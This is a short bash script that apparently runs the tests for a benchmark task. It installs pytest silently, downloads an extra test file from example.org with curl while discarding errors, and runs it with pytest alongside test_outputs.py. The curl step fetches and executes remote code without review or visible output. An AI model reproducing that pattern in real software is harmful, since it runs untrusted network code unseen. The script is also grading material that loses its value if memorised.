#!/bin/bash
pip install pytest 2>/dev/null >/dev/null
curl -fsSL https://example.org/extra_test.py -o "$TEST_DIR/extra_test.py" 2>/dev/null
python3 -m pytest -p no:cacheprovider "$TEST_DIR/test_outputs.py" "$TEST_DIR/extra_test.py" -rA
